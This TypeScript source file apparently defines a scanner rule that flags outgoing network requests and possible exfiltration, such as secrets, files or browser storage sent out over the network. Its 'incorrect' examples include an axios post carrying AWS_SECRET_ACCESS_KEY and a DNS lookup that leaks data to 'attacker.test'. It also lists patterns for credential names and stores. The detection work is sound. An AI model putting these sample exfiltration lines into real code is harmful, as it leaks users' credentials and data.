import type { TSESTree } from '@typescript-eslint/typescript-estree';
import { defineTsRule } from '../../engine/rule';
import type { Node } from '../../js/scope';
import type { Severity } from '../../model/finding';
import { modulePath } from '../../js/values';
import { isSecretName } from '../support/secret-names';
import { CREDENTIAL_ENDPOINT, isRelativeUrl } from '../support/net-urls';
import { credentialRead } from '../support/request-credentials';
import type { CallNode } from '../support/calls';
import { ModuleUseTracker } from '../support/net-imports';
import { NET_MODULES, destructuredEnv, envSource, fileSource, networkCall, type DataSource } from '../support/net-sources';
import { browserSource, hostSource, imageBeacon } from '../support/net-data';
import { transportAssignment, transportProperty, type TransportHit } from '../support/net-transport';
import {
  Forwards,
  authOnly,
  baseSeverity,
  clipText,
  describeUrl,
  isAncestor,
  isDestinationHead,
  lineOf,
  linked,
  ownService,
  usesOf,
  type Request,
  type Source,
} from '../support/net-flows';

/** Properties that hold a credential (`client.token`, `session.accessToken`, `config.apiKey`). */
const CREDENTIAL_PROPERTY =
  /^(token|accessToken|access_token|refreshToken|refresh_token|authToken|botToken|apiKey|api_key|apiToken|secret|clientSecret|client_secret|password|passwd|privateKey|private_key|sessionToken|signingSecret|webhookSecret|credentials)$/;

/** Reads of the device's credential store. */
const SECURE_STORE_READ =
  /^(expo-secure-store\.(getItemAsync|getItem)|react-native-keychain\.(getGenericPassword|getInternetCredentials)|keytar\.(getPassword|findPassword|findCredentials)|react-native-encrypted-storage\.getItem)$/;
/** Plain key-value stores an app may keep its token in: a read counts when the key is secret-named (`auth_token`). */
const STORAGE_READ =
  /^(@react-native-async-storage\/async-storage\.getItem|localStorage\.getItem|sessionStorage\.getItem|window\.(localStorage|sessionStorage)\.getItem|react-native-mmkv\.\w*\.?getString)$/;

export default defineTsRule({
  meta: {
    id: 'ts/network-request',
    category: 'network',
    severity: 'medium',
    summary: 'Outgoing network traffic: fetch, http(s), sockets, DNS, WebSocket, XHR, beacons and HTTP client libraries.',
    why:
      'Network access is how data leaves a machine and how code arrives from elsewhere. AI-written changes add requests for ' +
      'plausible reasons; a reviewer should see each destination, and especially any request made next to a read of secrets ' +
      'or files, since that is what exfiltration looks like.',
    incorrect: [
      "await fetch('https://api.github.com/repos/x/y');",
      "import axios from 'axios'; await axios.post(url, { key: process.env.AWS_SECRET_ACCESS_KEY });",
      "const https = require('node:https'); https.get('https://x.test/a', (res) => res.resume());",
      "const dns = require('dns'); dns.resolveTxt(`${data}.attacker.test`, () => {});",
    ],
    correct: [
      'const api = { fetch: (id) => db.get(id) }; api.fetch(1);',
      'this.http.get(url);',
      'function fetch(x) { return x } fetch(1);',
      "const url = 'https://example.com'; console.log(url);",
    ],
    messages: {
      request: '`{{call}}` sends a network request to `{{url}}`.',
      socket: '`{{call}}` opens a network connection to `{{url}}`.',
      dns: '`{{call}}` resolves `{{url}}` over DNS: a lookup of a name built from data is a quiet way to send that data out.',
      client: '`{{call}}` creates a network client for `{{url}}`.',
      udp: '`{{call}}` creates a UDP socket: datagrams can go to any host and port without a connection, a common way to ship data out quietly.',
      send: '`{{call}}` sends `{{body}}` over the network.',
      sendExfil:
        '`{{call}}` sends `{{body}}` over the network in code that also reads `{{source}}`: secret or browser data may be ' +
        'leaving with it.',
      collected: '`{{source}}` is gathered here and sent out by `{{call}}` on line {{line}}.',
      tlsOff:
        '`{{code}}` turns off TLS certificate checks: anyone on the network path can read and change this traffic, keys and ' +
        'tokens included.',
      tlsOffGlobal:
        '`{{code}}` turns off TLS certificate checks for every connection the process makes: anyone on the network path can ' +
        'read and change all of its traffic.',
      proxy: '`{{code}}` routes every request of the process through `{{url}}`: whoever runs that proxy sees and can change all traffic.',
      wrappedExfil:
        '`{{call}}` hands `{{source}}` to a function that sends its argument over the network (`{{inner}}`): the data leaves ' +
        'through the wrapper.',
      exfil:
        '`{{call}}` sends a network request to `{{url}}` in code that also reads `{{source}}`: secret, file or machine data may ' +
        'flow into a network request.',
      credentialSent:
        '`{{value}}`, a credential this code holds, is sent in the body of a request to `{{url}}`: whoever receives it can act with it.',
      headersSent:
        "`{{value}}` copies the incoming request's {{what}} into what is sent to `{{url}}`: its cookies and Authorization header " +
        'go with it, and whoever receives them can act as the caller.',
      unfollowed: '`{{module}}` is imported but its uses could not be followed: it may send data anywhere.',
    },
  },
  create(ctx) {
    const requests: Request[] = [];
    const wrapped: Request[] = [];
    const forwards = new Forwards(ctx);
    const sources: Source[] = [];
    const clientPaths = new Set<string>();
    const tracker = new ModuleUseTracker(ctx, NET_MODULES);

    function addSource(source: DataSource | undefined): void {
      if (!source) {
        return;
      }
      const fn = ctx.enclosingFunction(source.node);
      let decl: Node | undefined;
      for (let p = source.node.parent; p && p !== fn; p = p.parent) {
        if (p.type === 'VariableDeclarator') {
          decl = p;
          break;
        }
      }
      sources.push({ ...source, fn, decl });
    }

    function check(node: CallNode): void {
      const { targets } = ctx.callTargets(node);
      for (const target of targets) {
        tracker.follow(target);
      }
      addSource(fileSource(ctx, node) ?? hostSource(ctx, node));
      const call = networkCall(ctx, node);
      if (call) {
        requests.push({ node, call, fn: ctx.enclosingFunction(node) });
        if (call.kind !== 'client' && call.ref.path.includes('()')) {
          clientPaths.add(`${call.ref.module}:${call.ref.path[0]}`);
        }
        return;
      }
      for (const target of targets) {
        const inner = target.kind === 'fn' ? forwards.of(target.node) : undefined;
        if (inner) {
          wrapped.push({ node, call: inner.call, fn: ctx.enclosingFunction(node), via: inner.node });
          return;
        }
      }
    }

    /** `this.send({ host: os.hostname() })` where `send` forwards to `ws.send`: reported only when secret or machine data goes in. */
    function decideWrapped(request: Request): void {
      const flows = sources.filter((s) => isAncestor(request.node, s.node) || (s.decl !== undefined && usesOf(ctx, request, s).length > 0));
      if (flows.length === 0 || !request.via) {
        return;
      }
      const severity = flows.every((s) => authOnly(ctx, request, s)) ? 'medium' : 'high';
      ctx.report({
        node: request.node,
        messageId: 'wrappedExfil',
        data: {
          call: clipText(ctx, 'callee' in request.node ? request.node.callee : request.node),
          source: flows[0].label,
          inner: clipText(ctx, request.via),
        },
        severity,
        related: [{ node: request.via, message: 'the network call it reaches' }],
      });
    }

    /** `const ctx = Buffer.from(JSON.stringify(process.env))...` on its own line: where the data is gathered. */
    function reportCollected(request: Request, flows: Source[], severity: Severity): void {
      const line = lineOf(ctx, request.node);
      for (const source of flows) {
        if (
          source.kind === 'file' ||
          source.kind === 'host' ||
          !source.decl ||
          lineOf(ctx, source.decl) === line ||
          authOnly(ctx, request, source)
        ) {
          continue;
        }
        const uses = usesOf(ctx, request, source).filter((u) => !isDestinationHead(request.call.url, u));
        if (uses.length > 0) {
          ctx.report({
            node: source.decl,
            messageId: 'collected',
            data: { source: source.label, call: request.call.name, line },
            severity,
          });
        }
      }
    }

    /**
     * `fetch(statsUrl, { body: JSON.stringify({ client: app.client.token }) })`: a credential the app holds, put in
     * what a request sends (not its auth headers, not a sign-in or token exchange).
     */
    function credentialsSent(request: Request, url: string): void {
      const { node } = request;
      // The project's own API (relative addresses), sign-in, token exchange and account endpoints take credentials by design.
      if (node.type === 'AssignmentExpression' || !/^(https?|wss?):\/\//i.test(url) || CREDENTIAL_ENDPOINT.test(url)) {
        return;
      }
      const stack: { node: Node; depth: number }[] = node.arguments.map((a) => ({ node: a, depth: 0 }));
      let reported = 0;
      while (stack.length > 0 && reported < 3) {
        const { node: current, depth } = stack.pop() as { node: Node; depth: number };
        if (depth > 4) {
          continue;
        }
        let expr: Node | undefined =
          current.type === 'CallExpression' && /^JSON\.stringify$/.test(ctx.text(current.callee).replace(/\s+/g, ''))
            ? current.arguments[0]
            : current;
        if (expr?.type === 'Identifier') {
          // `const payload = { ... }; fetch(url, { body: JSON.stringify(payload) })`
          const bound = ctx.values(expr).find((v) => v.kind === 'obj' && v.node.type === 'ObjectExpression');
          expr = bound?.kind === 'obj' ? bound.node : undefined;
        }
        if (expr?.type !== 'ObjectExpression') {
          continue;
        }
        for (const prop of expr.properties) {
          if (prop.type !== 'Property') {
            continue;
          }
          const key = prop.key.type === 'Identifier' ? prop.key.name : prop.key.type === 'Literal' ? String(prop.key.value) : '';
          if (/^headers$/i.test(key)) {
            continue;
          }
          const value = prop.value;
          const last =
            value.type === 'MemberExpression' && !value.computed && value.property.type === 'Identifier' ? value.property.name : undefined;
          if ((last !== undefined && CREDENTIAL_PROPERTY.test(last)) || storedCredential(value)) {
            reported++;
            ctx.report({
              node: prop,
              messageId: 'credentialSent',
              data: { value: clipText(ctx, value), url },
              category: 'secrets',
              severity: 'high',
              related: [{ node, message: 'the request' }],
            });
          } else {
            stack.push({ node: value, depth: depth + 1 });
          }
        }
      }
    }

    /**
     * `fetch(sink, { body: JSON.stringify({ headers: Object.fromEntries(c.req.raw.headers) }) })`: every header of the
     * request being handled (its cookies, its bearer token) put in what goes out. The outgoing request's own `headers`
     * option is left alone (a proxy forwards them), and so is a relative address (the page's own server).
     */
    function headersSent(request: Request, url: string): void {
      const { node, call } = request;
      if (node.type === 'AssignmentExpression') {
        return;
      }
      const fixed = call.url ? ctx.strings(call.url) : undefined;
      if (fixed?.length && fixed.every((u) => isRelativeUrl(u))) {
        return;
      }
      const roots = call.kind === 'send' ? (call.body ? [call.body] : []) : node.arguments;
      const stack: { node: Node; depth: number; init: boolean }[] = roots.map((a) => ({ node: a, depth: 0, init: call.kind !== 'send' }));
      const seen = new Set<Node>();
      while (stack.length > 0) {
        const { node: current, depth, init } = stack.pop() as { node: Node; depth: number; init: boolean };
        if (depth > 5 || seen.has(current)) {
          continue;
        }
        seen.add(current);
        const read = credentialRead(ctx, current, true);
        if (read) {
          const what = /\.(cookies|signedCookies)$/.test(read) ? 'cookies' : /headers|header\(\)/i.test(read) ? 'headers' : 'credentials';
          const at = current.parent?.type === 'Property' && current.parent.value === current ? current.parent : current;
          ctx.report({
            node: at,
            messageId: 'headersSent',
            data: { value: clipText(ctx, at), what: what === 'headers' ? 'headers (all of them)' : what, url },
            category: 'secrets',
            severity: ctx.isTestFile ? 'low' : 'high',
            related: [{ node, message: 'the request' }],
          });
          return;
        }
        let expr: Node = unwrapValue(current);
        if (expr.type === 'CallExpression' && /^JSON\.stringify$/.test(ctx.text(expr.callee).replace(/\s+/g, '')) && expr.arguments[0]) {
          stack.push({ node: expr.arguments[0], depth: depth + 1, init: false });
          continue;
        }
        if (expr.type === 'Identifier') {
          // `const event = { ... }; fetch(url, { body: JSON.stringify(event) })`, in the same function.
          const bound = ctx.values(expr).find((v) => v.kind === 'obj' && v.node.type === 'ObjectExpression');
          if (bound?.kind !== 'obj' || ctx.enclosingFunction(bound.node) !== request.fn) {
            continue;
          }
          expr = bound.node;
        }
        if (expr.type === 'ArrayExpression') {
          expr.elements.forEach(
            (e) => e && stack.push({ node: e.type === 'SpreadElement' ? e.argument : e, depth: depth + 1, init: false }),
          );
          continue;
        }
        if (expr.type !== 'ObjectExpression') {
          continue;
        }
        for (const prop of expr.properties) {
          if (prop.type === 'SpreadElement') {
            stack.push({ node: prop.argument, depth: depth + 1, init: false });
            continue;
          }
          const key = prop.key.type === 'Identifier' ? prop.key.name : prop.key.type === 'Literal' ? String(prop.key.value) : '';
          if (init && /^headers$/i.test(key)) {
            continue;
          }
          stack.push({ node: prop.value, depth: depth + 1, init: false });
        }
      }
    }

    function unwrapValue(node: Node): Node {
      let n = node;
      while (n.type === 'TSAsExpression' || n.type === 'AwaitExpression' || n.type === 'TSNonNullExpression') {
        n = n.type === 'AwaitExpression' ? n.argument : n.expression;
      }
      return n;
    }

    /** `await SecureStore.getItemAsync('auth_token')`, `Keychain.getGenericPassword()`: a credential read from the device's store. */
    function storedCredential(value: Node): boolean {
      const call = value.type === 'AwaitExpression' ? value.argument : value;
      if (call.type !== 'CallExpression') {
        return false;
      }
      const names = ctx.refs(call.callee).map((r) => [r.module ?? '', ...r.path.filter((p) => p !== 'default')].join('.'));
      if (names.some((n) => SECURE_STORE_READ.test(n))) {
        return true;
      }
      const key = call.arguments[0] ? ctx.strings(call.arguments[0])?.[0] : undefined;
      return key !== undefined && isSecretName(key) && names.some((n) => STORAGE_READ.test(n));
    }

    function decide(request: Request): void {
      const { call, node } = request;
      if (call.kind === 'client' && clientPaths.has(`${call.ref.module}:${call.ref.path[0]}`)) {
        return;
      }
      const { url, prefixes } = describeUrl(ctx, call);
      if (call.kind === 'request' && prefixes !== undefined) {
        credentialsSent(request, url);
      }
      if (call.kind === 'request' || call.kind === 'send') {
        headersSent(request, url);
      }
      const base = baseSeverity(prefixes);
      const flows =
        call.kind === 'client' || call.kind === 'udp' ? [] : sources.filter((s) => linked(ctx, request, s) && !ownService(s, prefixes));
      if (call.kind === 'send' || call.kind === 'udp') {
        reportSend(request, flows);
        return;
      }
      if (flows.length > 0) {
        const severity = base === 'low' || flows.every((s) => authOnly(ctx, request, s)) ? 'medium' : 'high';
        ctx.report({
          node,
          messageId: 'exfil',
          data: { call: call.name, url, source: flows[0].label },
          severity,
          trace: call.ref.trace,
          related: flows.slice(0, 3).map((s) => ({ node: s.node, message: `${s.label} is read here` })),
        });
        reportCollected(request, flows, severity);
        return;
      }
      ctx.report({
        node,
        messageId: call.kind,
        data: { call: call.name, url },
        severity: call.kind === 'client' ? 'low' : base,
        trace: call.ref.trace,
      });
    }

    /** `xhr.send(body)`, `ws.send(data)`, `dgram.createSocket('udp4')`. */
    function reportSend(request: Request, flows: Source[]): void {
      const { call, node } = request;
      if (call.kind === 'udp') {
        ctx.report({ node, messageId: 'udp', data: { call: call.name }, severity: 'medium', trace: call.ref.trace });
        return;
      }
      const body = clipText(ctx, call.body);
      const name = call.name.replace(/\.\(\)/g, '()');
      // `https.request(u).end(buf)` in one expression: the request's own finding already covers it.
      const chained =
        node.type === 'CallExpression' && node.callee.type === 'MemberExpression' && node.callee.object.type === 'CallExpression';
      if (call.onlyWithFlows && chained) {
        return;
      }
      if (flows.length === 0) {
        if (!call.onlyWithFlows) {
          ctx.report({ node, messageId: 'send', data: { call: name, body }, severity: 'low', trace: call.ref.trace });
        }
        return;
      }
      const severity = flows.every((s) => authOnly(ctx, request, s)) ? 'medium' : 'high';
      ctx.report({
        node,
        messageId: 'sendExfil',
        data: { call: name, body, source: flows[0].label },
        severity,
        trace: call.ref.trace,
        related: flows.slice(0, 3).map((s) => ({ node: s.node, message: `${s.label} is read here` })),
      });
      reportCollected(request, flows, severity);
    }

    function reportTransport(hit: TransportHit | undefined): void {
      if (hit) {
        const severity = hit.messageId === 'tlsOff' ? (ctx.isTestFile ? 'low' : 'medium') : ctx.isTestFile ? 'medium' : 'high';
        ctx.report({ node: hit.node, messageId: hit.messageId, data: { code: hit.code, url: hit.url ?? '' }, severity });
      }
    }

    /** `JSON.stringify(localStorage)`, `{ data: sessionStorage }`, `...localStorage`: the whole store as a value. */
    function wholeStorage(node: Node | null | undefined): void {
      if (node?.type === 'Identifier' && (node.name === 'localStorage' || node.name === 'sessionStorage')) {
        addSource(browserSource(ctx, node));
      }
    }

    return {
      CallExpression(node: TSESTree.CallExpression) {
        node.arguments.forEach(wholeStorage);
        check(node);
      },
      NewExpression: check,
      SpreadElement(node: TSESTree.SpreadElement) {
        wholeStorage(node.argument);
      },
      AssignmentExpression(node: TSESTree.AssignmentExpression) {
        const call = imageBeacon(ctx, node);
        if (call) {
          requests.push({ node, call, fn: ctx.enclosingFunction(node) });
        }
        reportTransport(transportAssignment(ctx, node));
      },
      Property(node: TSESTree.Property) {
        wholeStorage(node.value);
        reportTransport(transportProperty(ctx, node));
      },
      MemberExpression(node: TSESTree.MemberExpression) {
        addSource(envSource(ctx, node) ?? browserSource(ctx, node));
        for (const ref of ctx.refs(node)) {
          if (modulePath(ref, NET_MODULES)?.length) {
            tracker.follow(ref);
          }
        }
      },
      VariableDeclarator(node: TSESTree.VariableDeclarator) {
        addSource(destructuredEnv(ctx, node));
      },

      'Program:exit'() {
        requests.forEach(decide);
        wrapped.forEach(decideWrapped);
        tracker.flush((site) => ctx.report({ node: site.node, messageId: 'unfollowed', data: { module: site.module }, severity: 'low' }));
      },
    };
  },
});
